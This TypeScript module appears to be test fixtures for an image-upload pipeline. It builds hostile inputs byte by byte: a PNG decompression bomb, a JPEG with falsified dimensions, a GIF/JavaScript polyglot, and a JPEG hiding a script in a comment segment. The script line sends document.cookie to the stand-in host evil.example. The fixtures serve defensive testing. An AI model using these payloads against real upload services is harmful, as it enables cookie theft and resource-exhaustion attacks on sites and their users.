import zlib from 'node:zlib';
import sharp from 'sharp';

/**
 * Hostile images for the upload tests, built byte by byte where sharp would refuse to make them.
 */

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/**
 * A complete, valid black-and-white PNG of width × height: every row is zeros, so 20000×20000
 * (400 million pixels, about 50 MB of raw rows even at 1 bit a pixel, gigabytes once decoded
 * to RGB) deflates to about 50 KB — a decompression bomb.
 */
export function bombPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rows = Buffer.alloc((1 + Math.ceil(width / 8)) * height);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', zlib.deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const smallJpeg = (): Promise<Buffer> =>
  sharp({ create: { width: 24, height: 16, channels: 3, background: '#884422' } })
    .jpeg()
    .toBuffer();

export const smallPng = (): Promise<Buffer> =>
  sharp({ create: { width: 24, height: 16, channels: 3, background: '#224488' } })
    .png()
    .toBuffer();

/** A small JPEG whose frame header claims width × height (the scan data stays small). */
export async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await smallJpeg());
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no baseline frame header');
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

export const SCRIPT_PAGE = Buffer.from(
  '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>',
);

/** A GIF header and then a web page: a classic GIF/JS polyglot. */
export const GIF_SCRIPT = Buffer.concat([Buffer.from('GIF89a/*\x01\x00\x01\x00'), SCRIPT_PAGE]);

/** A valid JPEG carrying the page in a comment segment (COM, 0xFFFE) right after SOI. */
export async function jpegWithScriptComment(): Promise<Buffer> {
  const jpeg = await smallJpeg();
  const length = Buffer.alloc(2);
  length.writeUInt16BE(SCRIPT_PAGE.length + 2);
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe]), length, SCRIPT_PAGE]);
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
}
